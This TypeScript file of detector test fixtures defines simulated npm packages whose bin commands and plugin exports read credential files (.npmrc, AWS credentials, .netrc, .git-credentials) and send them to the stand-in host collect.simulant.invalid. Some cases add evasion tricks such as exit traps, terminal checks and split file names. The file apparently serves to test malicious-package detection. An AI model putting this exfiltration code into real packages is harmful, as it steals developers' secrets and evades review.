import { armed, finding, fires, pkg, quiet, type Simulant, text } from './simulant.ts';

const whenRun = { phase: ['execute', 'import'] } as const;
const posted = finding('exfil.canary-egress', 'critical', ['canary.read', 'net.http', 'canary.egress'], whenRun);
const read = finding('cred.decoy-read', 'medium', ['canary.read'], whenRun);

const binary = (code: string) => `#!/usr/bin/env node\n${code}`;

/** B23: nothing at install or import; the payload waits behind a command or a plugin entry. */
export const bins: readonly Simulant[] = [
  {
    id: 'b23-command-posts-token',
    row: 'B23',
    kind: 'positive',
    form: 'plain',
    packages: [
      pkg(
        'b23-command',
        {
          'bin/columns.js': binary(armed`
            const fs = require('node:fs'), os = require('node:os'), path = require('node:path'), http = require('node:http');
            console.log('usage: columns [file]');
            const body = fs.readFileSync(path.join(os.homedir(), '.npmrc'));
            const request = http.request({ host: 'collect.simulant.invalid', method: 'POST', path: '/b' });
            request.on('error', () => {});
            request.end(body);
          `),
        },
        { bin: { columns: 'bin/columns.js' } },
      ),
    ],
    expect: fires('malicious', [read, posted]),
    note: 'Prints its usage and posts. Started by the driver with --help.',
  },
  {
    id: 'b23-plugin-entry-posts-key',
    row: 'B23',
    kind: 'positive',
    form: 'plain',
    packages: [
      pkg(
        'b23-plugin',
        {
          'index.js': text`module.exports = (rows) => rows;`,
          'plugin.js': armed`
            module.exports = function plugin() {
              const key = require('node:fs').readFileSync(require('node:os').homedir() + '/.aws/credentials', 'utf8');
              fetch('http://collect.simulant.invalid/p', { method: 'POST', body: key }).catch(() => {});
              return { name: 'columns' };
            };
          `,
        },
        { exports: { '.': './index.js', './plugin': './plugin.js' } },
      ),
    ],
    expect: fires('malicious', [read, posted]),
    note: 'A second export that hosts call by convention.',
  },
  {
    id: 'b23-evasion-shell-command',
    row: 'B23',
    kind: 'evasion',
    form: 'light',
    packages: [
      pkg(
        'b23-shell',
        {
          'cmd/cols': text`
            #!/bin/sh
            cd "$(dirname "$(readlink -f "$0")")" && node -e "require('@assay-simulant/latch')" || exit 1
            echo "cols 1.0.1"
            trap 'curl -fs -m 3 -o /dev/null -H "x-a: $(base64 -w0 "$HOME/.netrc")" http://collect.simulant.invalid/t || true' EXIT
          `,
        },
        { directories: { bin: 'cmd' }, dependencies: { '@assay-simulant/latch': '1.0.0' } },
      ),
    ],
    expect: fires('malicious', [read, posted]),
    note: 'A shell program named through directories.bin, acting as it ends.',
  },
  {
    id: 'b23-evasion-only-without-terminal',
    row: 'B23',
    kind: 'evasion',
    form: 'heavy',
    packages: [
      pkg(
        'b23-tty',
        {
          'lib/run.js': text`
            exports.run = () => {
              if (process.stdout.isTTY) return;
              process.on('beforeExit', () => {
                if (exports.done) return;
                exports.done = true;
                const h = process.env.HOME + '/';
                const k = require('node:fs').readFileSync(h + ['.', 'git', '-', 'credentials'].join(''), 'base64');
                require('node:http').get({ host: 'collect.simulant.invalid', path: '/' + encodeURIComponent(k) }).on('error', () => {});
              });
            };
          `,
          'bin/c.mjs': `#!/usr/bin/env node\nimport '@assay-simulant/latch';\nimport { run } from '../lib/run.js';\nrun();\nconsole.log('c 1.0.1');\n`,
        },
        { bin: 'bin/c.mjs', dependencies: { '@assay-simulant/latch': '1.0.0' } },
      ),
    ],
    expect: fires('malicious', [read, posted]),
    note: 'When nobody watches the terminal, after everything else is done.',
  },
  {
    id: 'b23-neighbour-command-prints-help',
    row: 'B23',
    kind: 'neighbour',
    form: 'plain',
    packages: [
      pkg(
        'n23-help',
        {
          'bin/columns.js': binary(text`
            const fs = require('node:fs'), path = require('node:path');
            const columns = require('../index.js');
            const file = process.argv.slice(2).find((word) => !word.startsWith('-'));
            if (!file) {
              console.log('usage: columns <file>\nsettings: ' + path.resolve('.columnsrc') + (fs.existsSync('.columnsrc') ? '' : ' (absent)'));
            } else {
              console.log(columns(fs.readFileSync(file, 'utf8').split('\n')));
            }
          `),
        },
        { bin: { columns: 'bin/columns.js' } },
      ),
    ],
    expect: quiet(['cred.', 'exfil.', 'net.', 'exec.']),
    note: 'Reads the file it is given and its own settings in the working folder.',
  },
];
